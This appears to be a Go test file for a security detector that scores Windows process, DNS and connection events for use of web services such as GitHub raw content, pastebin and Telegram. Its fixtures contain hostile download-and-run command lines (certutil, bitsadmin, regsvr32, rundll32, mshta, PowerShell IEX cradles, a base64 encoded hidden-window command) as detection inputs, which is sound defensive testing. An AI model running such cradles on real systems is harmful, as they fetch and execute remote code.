@@ -1,0 +1,387 @@
+package detect
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+// shipped loads the catalog the app ships (../../app/lookups, ../../default).
+func shipped(t testing.TB, services string) *Detector {
+	t.Helper()
+	c, err := LoadCatalog(filepath.Join("..", ".."), services)
+	require.NoError(t, err)
+	return NewDetector(c)
+}
+
+func TestDomainSet(t *testing.T) {
+	s := NewDomainSet[string]()
+	for _, d := range []string{"github.com", "raw.githubusercontent.com", "x.com", "t.me", "*.sharepoint.com."} {
+		s.Add(strings.TrimPrefix(d, "*."), d)
+	}
+	tests := []struct {
+		name, host, want string
+		reason           string
+	}{
+		{"exact", "github.com", "github.com", "equal to an entry"},
+		{"subdomain", "api.github.com", "github.com", "ends with . + entry"},
+		{"most specific", "raw.githubusercontent.com", "raw.githubusercontent.com", "the longest entry wins"},
+		{"look-alike suffix", "raw.githubusercontent.com.evil.example", "", "the entry must be at the end"},
+		{"substring", "evilgithub.com", "", "never a substring: label boundary"},
+		{"x.com in dropbox", "www.dropbox.com", "", "the original's x\\.com matched dropbox.com"},
+		{"x.com in netflix", "netflix.com", "", "the original's x\\.com matched netflix.com"},
+		{"t.me in meraki", "smart.meraki.com", "", "the original's t\\.me matched smart.meraki.com"},
+		{"apex t.me", "t.me", "t.me", "the apex itself"},
+		{"wildcard entry", "contoso.sharepoint.com", "*.sharepoint.com.", "*. entries are suffixes like any other"},
+		{"empty", "", "", "nothing"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			require.NotEmpty(t, tt.reason)
+			v, _, ok := s.Match(NormalizeHost(nil, []byte(tt.host)))
+			require.Equal(t, tt.want != "", ok, tt.reason)
+			require.Equal(t, tt.want, v, tt.reason)
+		})
+	}
+}
+
+func TestNormalizeHost(t *testing.T) {
+	for in, want := range map[string]string{
+		"GitHub.COM.":               "github.com",
+		" api.x.com:443":            "api.x.com",
+		"a b.com":                   "",
+		"-":                         "-",
+		"[::1]":                     "",
+		"raw.githubusercontent.com": "raw.githubusercontent.com",
+	} {
+		require.Equal(t, want, string(NormalizeHost(nil, []byte(in))), in)
+	}
+}
+
+func TestScanHosts(t *testing.T) {
+	tests := []struct {
+		name, text string
+		want       []string
+		reason     string
+	}{
+		{"url", `certutil -urlcache -f https://raw.githubusercontent.com/a/b.ps1 c.ps1`, []string{"raw.githubusercontent.com"}, "after a scheme"},
+		{"quoted", `"C:\x\bitsadmin.exe" /transfer j "https://github.com/x/y/raw/main/z.ps1" "%TEMP%\z.ps1"`, []string{"github.com"}, "inside quotes; %TEMP% and the path are not hosts"},
+		{"script text", `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://pastebin.com/raw/abc')"`, []string{"Net.WebClient", "pastebin.com"}, "inside script text; candidates only, the catalog decides"},
+		{"after /i:", `regsvr32 /s /n /u /i:https://raw.githubusercontent.com/x/y.sct scrobj.dll`, []string{"raw.githubusercontent.com"}, "after /i:"},
+		{"after script:", `rundll32 javascript:"\..\mshtml,RunHTMLApplication ";GetObject("script:https://raw.githubusercontent.com/x.sct")`, []string{"raw.githubusercontent.com"}, "after script:"},
+		{"format", `wmic os get /FORMAT:"https://raw.githubusercontent.com/x/y.xsl"`, []string{"raw.githubusercontent.com"}, "after /FORMAT:"},
+		{"no scheme", `iwr raw.githubusercontent.com/x/y.ps1 -OutFile y.ps1`, []string{"raw.githubusercontent.com"}, "bare host with a path"},
+		{"uri param", `Invoke-WebRequest -Uri github.com`, []string{"github.com"}, "bare host after -Uri"},
+		{"windows path", `C:\Tools\github.com\x.exe C:\Windows\System32\x.com`, nil, "directories and files named like hosts"},
+		{"host in another url's path", `https://evil.example/raw.githubusercontent.com/x`, []string{"evil.example"}, "a path element is not a host"},
+		{"version", `python3.11 -V 1.2.3`, nil, "version numbers have no letters in the last label"},
+		{"port", `curl http://api.telegram.org:443/bot1/getUpdates`, []string{"api.telegram.org"}, "host then port"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			require.NotEmpty(t, tt.reason)
+			var got []string
+			ScanHosts([]byte(tt.text), func(r HostRef) bool {
+				if strings.Contains(string(r.Host), ".") && !strings.HasSuffix(strings.ToLower(string(r.Host)), ".exe") &&
+					!strings.HasSuffix(strings.ToLower(string(r.Host)), ".ps1") && !strings.HasSuffix(strings.ToLower(string(r.Host)), ".dll") &&
+					!strings.HasSuffix(strings.ToLower(string(r.Host)), ".sct") && !strings.HasSuffix(strings.ToLower(string(r.Host)), ".xsl") {
+					got = append(got, string(r.Host))
+				}
+				return true
+			})
+			require.Equal(t, tt.want, got, tt.reason)
+		})
+	}
+}
+
+func TestFindEncoded(t *testing.T) {
+	// "IEX (iwr https://github.com/x)" as UTF-16LE base64.
+	b64 := "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGcAaQB0AGgAdQBiAC4AYwBvAG0ALwB4ACkA"
+	tests := []struct {
+		name, cmd  string
+		powershell bool
+		how        string // "" = not encoded
+		decoded    string
+		reason     string
+	}{
+		{"full", "powershell -EncodedCommand " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "the full parameter"},
+		{"e", "powershell -e " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "the shortest prefix"},
+		{"ec alias", "pwsh -ec " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "the documented alias"},
+		{"enco", "powershell -ENCO " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "any prefix, any case"},
+		{"slash", "powershell /enc " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "a slash"},
+		{"en dash", "powershell \u2013enc " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "en dash"},
+		{"em dash", "powershell \u2014e " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "em dash"},
+		{"bar", "powershell \u2015en " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "horizontal bar"},
+		{"tab", "powershell -enc\t" + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "any white space"},
+		{"caret", "cmd /c powershell -e^n^c " + b64, true, "-EncodedCommand", "IEX (iwr https://github.com/x)", "cmd.exe's ^ escapes"},
+		{"ea", "powershell -ea SilentlyContinue -c x", true, "", "", "-ea is -ErrorAction"},
+		{"ep", "powershell -ep bypass -c x", true, "", "", "-ep is -ExecutionPolicy"},
+		{"exec", "powershell -Exec Bypass -File a.ps1", true, "", "", "-Exec is -ExecutionPolicy"},
+		{"executionpolicy", "powershell -ExecutionPolicy Bypass", true, "", "", "not a prefix of encodedcommand"},
+		{"enc last", "powershell -enc", true, "", "", "no value after it"},
+		{"other process", "node -e " + b64, false, "base64 argument", "IEX (iwr https://github.com/x)", "-e means something else for node; the base64 itself still counts"},
+		{"node script", "node -e console.log(1)", false, "", "", "-e is not EncodedCommand outside PowerShell"},
+		{"frombase64", "powershell -c [Convert]::FromBase64String($s)", true, "FromBase64String", "", "FromBase64String"},
+		{"base64 not utf16", "certutil -decode QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZn out", false, "", "", "base64 of ASCII text is not a PowerShell script"},
+		{"short base64", "x -enc SQBFAFgA", false, "", "", "not PowerShell and shorter than 40"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			require.NotEmpty(t, tt.reason)
+			enc, ok := FindEncoded([]byte(tt.cmd), tt.powershell)
+			require.Equal(t, tt.how != "", ok, tt.reason)
+			require.Equal(t, tt.how, enc.How, tt.reason)
+			require.Equal(t, tt.decoded, string(enc.Decoded), tt.reason)
+		})
+	}
+}
+
+func TestDetector(t *testing.T) {
+	d := shipped(t, WebServicesFile)
+	tests := []struct {
+		name   string
+		reason string
+		ev     Event
+		check  func(t *testing.T, r *Result)
+	}{
+		{
+			name: "dns query names the service", reason: "EventID 22 QueryName is where the service shows",
+			ev: Event{EventCode: b("22"), Image: b(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`), QueryName: b("raw.githubusercontent.com")},
+			check: func(t *testing.T, r *Result) {
+				require.Equal(t, "github", r.Category)
+				require.Equal(t, "QueryName", r.SeenIn)
+				require.Equal(t, "raw.githubusercontent.com", r.Host)
+				require.True(t, r.Suspicious)
+				require.True(t, r.RawContent)
+				require.True(t, r.Pass)
+			},
+		},
+		{
+			name: "reverse dns is not evidence", reason: "a 1e100.net name says Google, not which service",
+			ev:    Event{EventCode: b("3"), Image: b(`C:\x\powershell.exe`), DestinationHostname: b("lhr25s34-in-f14.1e100.net")},
+			check: func(t *testing.T, r *Result) { require.Empty(t, r.Category); require.False(t, r.Pass) },
+		},
+		{
+			name: "gcp reverse dns", reason: "bc.googleusercontent.com is a customer VM even though LOTS lists googleusercontent.com",
+			ev:    Event{EventCode: b("3"), Image: b(`C:\x\powershell.exe`), DestinationHostname: b("34.1.2.3.bc.googleusercontent.com")},
+			check: func(t *testing.T, r *Result) { require.Empty(t, r.Category) },
+		},
+		{
+			name: "connection with a service name", reason: "EventID 3 DestinationHostname when it is a real name",
+			ev: Event{EventCode: b("3"), Image: b(`C:\x\curl.exe`), DestinationHostname: b("API.Telegram.org.")},
+			check: func(t *testing.T, r *Result) {
+				require.Equal(t, "telegram", r.Category)
+				require.Equal(t, "DestinationHostname", r.SeenIn)
+				require.Equal(t, "api.telegram.org.", string(r.DestHost), "dest_host stays lower(DestinationHostname)")
+				require.True(t, r.Pass)
+			},
+		},
+		{
+			name: "dropbox is not twitter", reason: "the original's x\\.com trap",
+			ev:    Event{EventCode: b("3"), Image: b(`C:\x\curl.exe`), DestinationHostname: b("www.dropbox.com")},
+			check: func(t *testing.T, r *Result) { require.Empty(t, r.Category) },
+		},
+		{
+			name: "look-alike", reason: "raw.githubusercontent.com.evil.example is not GitHub",
+			ev:    Event{EventCode: b("22"), Image: b(`C:\x\powershell.exe`), QueryName: b("raw.githubusercontent.com.evil.example")},
+			check: func(t *testing.T, r *Result) { require.Empty(t, r.Category) },
+		},
+		{
+			name: "dcmd is not cmd", reason: "processes by exact basename",
+			ev:    Event{EventCode: b("22"), Image: b(`C:\tools\dcmd.exe`), QueryName: b("pastebin.com")},
+			check: func(t *testing.T, r *Result) { require.False(t, r.Suspicious); require.False(t, r.Pass) },
+		},
+		{
+			name: "linux path", reason: "either path separator",
+			ev: Event{EventCode: b("1"), Image: b("/usr/bin/curl.exe"), CommandLine: b("curl https://pastebin.com/raw/x")},
+			check: func(t *testing.T, r *Result) {
+				require.Equal(t, "curl.exe", r.Process)
+				require.True(t, r.Suspicious)
+				require.True(t, r.Pass)
+			},
+		},
+		{
+			name: "renamed binary", reason: "OriginalFileName says what the file is",
+			ev: Event{EventCode: b("1"), Image: b(`C:\Users\Public\svc.exe`), OriginalFileName: b("REGSVR32.EXE"),
+				CommandLine: b(`svc.exe /s /u /i:https://raw.githubusercontent.com/x/y.sct scrobj.dll`)},
+			check: func(t *testing.T, r *Result) {
+				require.True(t, r.Suspicious)
+				require.Equal(t, "regsvr32.exe", r.PEName)
+				require.Equal(t, "lolbin", r.ProcessClass)
+				require.Contains(t, r.Reasons, "renamed binary: svc.exe is regsvr32.exe by its PE metadata")
+				require.True(t, r.Pass)
+			},
+		},
+		{
+			name: "renamed by description", reason: "Description when OriginalFileName is missing",
+			ev:    Event{EventCode: b("22"), Image: b(`C:\x\notepad2.exe`), Description: b("Windows PowerShell"), QueryName: b("pastebin.com")},
+			check: func(t *testing.T, r *Result) { require.Equal(t, "powershell.exe", r.PEName); require.True(t, r.Pass) },
+		},
+		{
+			name: "unknown process fetching raw content", reason: "still scores when the URL is raw content",
+			ev: Event{EventCode: b("1"), Image: b(`C:\Users\x\AppData\Local\Temp\updater.exe`), CommandLine: b(`updater.exe --from https://raw.githubusercontent.com/x/y/z.bin`)},
+			check: func(t *testing.T, r *Result) {
+				require.False(t, r.Suspicious)
+				require.True(t, r.RawContent)
+				require.True(t, r.Pass)
+				require.Positive(t, r.RiskScore)
+				require.Equal(t, "https://raw.githubusercontent.com/x/y/z.bin", r.URL)
+			},
+		},
+		{
+			name: "unknown process on github web pages", reason: "github.com pages that are not raw content do not pass for an unknown process",
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\app.exe`), CommandLine: b(`app.exe https://github.com/org/repo/issues`)},
+			check: func(t *testing.T, r *Result) { require.Equal(t, "github", r.Category); require.False(t, r.Pass) },
+		},
+		{
+			name: "encoded command with the service inside", reason: "decode -EncodedCommand and look for the service in the script",
+			ev: Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), ParentImage: b(`C:\Windows\System32\svchost.exe`),
+				CommandLine: b("powershell -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGcAaQB0AGgAdQBiAC4AYwBvAG0ALwB4ACkA")},
+			check: func(t *testing.T, r *Result) {
+				require.True(t, r.Encoded)
+				require.Equal(t, "github", r.Category)
+				require.Equal(t, "EncodedCommand", r.SeenIn)
+				require.True(t, r.ServiceSpawn)
+				require.Equal(t, 3, r.SuspicionScore)
+				require.Contains(t, r.Decoded, "https://github.com/x")
+			},
+		},
+		{
+			name: "office parent", reason: "by exact basename",
+			ev: Event{EventCode: b("1"), Image: b(`C:\x\cmd.exe`), ParentImage: b(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`), CommandLine: b("cmd /c curl https://t.me/x")},
+			check: func(t *testing.T, r *Result) {
+				require.True(t, r.OfficeParent)
+				require.Equal(t, "telegram", r.Category)
+			},
+		},
+		{
+			name: "not an office parent", reason: "a substring of a parent name is not the parent",
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\cmd.exe`), ParentImage: b(`C:\x\notwinword.exe`)},
+			check: func(t *testing.T, r *Result) { require.False(t, r.OfficeParent) },
+		},
+		{
+			name: "allowlisted git", reason: "git-remote-https to github.com is the allowlist's first kind of false positive",
+			ev: Event{EventCode: b("3"), Image: b(`C:\Program Files\Git\mingw64\bin\git-remote-https.exe`), DestinationHostname: b("github.com")},
+			check: func(t *testing.T, r *Result) {
+				require.True(t, r.Allowlisted)
+				require.Zero(t, r.RiskScore)
+				require.False(t, r.Pass)
+			},
+		},
+		{
+			name: "allowlisted defender", reason: "the benign process of the labelled corpus",
+			ev:    Event{EventCode: b("22"), Image: b(`C:\ProgramData\Microsoft\Windows Defender\platform\4.18\MsMpEng.exe`), QueryName: b("raw.githubusercontent.com")},
+			check: func(t *testing.T, r *Result) { require.True(t, r.Allowlisted); require.False(t, r.Pass) },
+		},
+		{
+			name: "empty event", reason: "nothing to say",
+			ev: Event{},
+			check: func(t *testing.T, r *Result) {
+				require.Zero(t, r.RiskScore)
+				require.Empty(t, r.Reasons)
+				require.False(t, r.Pass)
+			},
+		},
+		{
+			name: "cim event without EventCode", reason: "every field is looked at",
+			ev:    Event{Image: b(`C:\x\mshta.exe`), CommandLine: b(`mshta https://pastebin.com/raw/x`)},
+			check: func(t *testing.T, r *Result) { require.Equal(t, "pastebin", r.Category); require.True(t, r.Pass) },
+		},
+		{
+			name: "multivalue host", reason: "a multivalue field arrives as values joined by newlines; each is a host",
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\curl.exe`), CommandLine: b("curl https://example.org/a\nhttps://pastebin.com/raw/b")},
+			check: func(t *testing.T, r *Result) { require.Equal(t, "pastebin", r.Category) },
+		},
+	}
+	s := d.NewScorer()
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			require.NotEmpty(t, tt.reason)
+			r := s.Score(&tt.ev)
+			tt.check(t, r)
+			require.LessOrEqual(t, r.RiskScore, 100)
+		})
+	}
+}
+
+func b(s string) []byte { return []byte(s) }
+
+func TestCatalogErrors(t *testing.T) {
+	write := func(t *testing.T, files map[string]string) string {
+		dir := t.TempDir()
+		base := map[string]string{
+			"lookups/" + WebServicesFile: "domain,category\ngithub.com,github\n",
+			"lookups/" + ProcessesFile:   "name,class\npowershell.exe,script_engine\n",
+			"lookups/" + ParentsFile:     "name,class\nsvchost.exe,service\n",
+			"lookups/" + AllowlistFile:   "host,user,process,domain\n",
+			"lookups/" + NotEvidenceFile: "domain\n1e100.net\n",
+			"default/" + ConfFile:        "[risk]\nservice=1\nraw_content=1\nsuspicious_process=1\nrenamed_binary=1\nencoded=1\noffice_parent=1\nservice_spawn=1\ncommand_line_url=1\ntag_cc=1\n",
+		}
+		for k, v := range files {
+			base[k] = v
+		}
+		for name, content := range base {
+			p := filepath.Join(dir, name)
+			require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
+			require.NoError(t, os.WriteFile(p, []byte(content), 0o644))
+		}
+		return dir
+	}
+	tests := []struct {
+		name   string
+		reason string
+		files  map[string]string
+		says   string
+	}{
+		{"ok", "the minimal catalog loads", nil, ""},
+		{"bad domain", "not a domain", map[string]string{"lookups/" + WebServicesFile: "domain,category\ngithub.com,github\nnot a domain,x\n"}, WebServicesFile + ":3:"},
+		{"missing column", "header without category", map[string]string{"lookups/" + WebServicesFile: "domain\ngithub.com\n"}, `no column "category"`},
+		{"bad parent class", "office or service only", map[string]string{"lookups/" + ParentsFile: "name,class\nx.exe,weird\n"}, ParentsFile + ":2:"},
+		{"allow everything", "an empty rule", map[string]string{"lookups/" + AllowlistFile: "host,user,process,domain\n,,,\n"}, AllowlistFile + ":2:"},
+		{"weight out of range", "0 to 100", map[string]string{"local/" + ConfFile: "[risk]\n\nencoded = 500\n"}, "local/" + ConfFile + ":3:"},
+		{"unknown weight", "typos are errors", map[string]string{"local/" + ConfFile: "[risk]\nencode = 5\n"}, `unknown key "encode"`},
+		{"missing weight", "defaults are all in the default file", map[string]string{"default/" + ConfFile: "[risk]\nservice=1\n"}, "has no raw_content"},
+		{"path in process", "a basename, not a path", map[string]string{"lookups/" + ProcessesFile: "name,class\nC:\\x\\a.exe,lolbin\n"}, ProcessesFile + ":2:"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			require.NotEmpty(t, tt.reason)
+			_, err := LoadCatalog(write(t, tt.files), WebServicesFile)
+			if tt.says == "" {
+				require.NoError(t, err)
+				return
+			}
+			require.ErrorIs(t, err, ErrCatalog)
+			require.Contains(t, filepath.ToSlash(err.Error()), tt.says)
+		})
+	}
+}
+
+func TestShippedCatalogs(t *testing.T) {
+	for _, f := range []string{WebServicesFile, WebServicesLOTSFile} {
+		d := shipped(t, f)
+		cats := map[string]bool{}
+		for _, s := range d.cat.Services {
+			cats[s.Category] = true
+		}
+		for _, c := range []string{"twitter", "github", "gitlab", "telegram", "pastebin", "discord", "google_services", "reddit", "other_webservice", "microsoft_personal"} {
+			require.True(t, cats[c], "%s keeps the original category %s", f, c)
+		}
+	}
+	require.Greater(t, len(shipped(t, WebServicesLOTSFile).cat.Services), 150, "the LOTS catalog is the larger one")
+}
+
+func BenchmarkScorer(b *testing.B) {
+	d := shipped(b, WebServicesFile)
+	s := d.NewScorer()
+	ev := Event{EventCode: []byte("1"), Image: []byte(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`),
+		CommandLine: []byte(`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/x/y/main/z.ps1')"`),
+		ParentImage: []byte(`C:\Windows\System32\svchost.exe`)}
+	b.ReportAllocs()
+	for b.Loop() {
+		s.Score(&ev)
+	}
+}
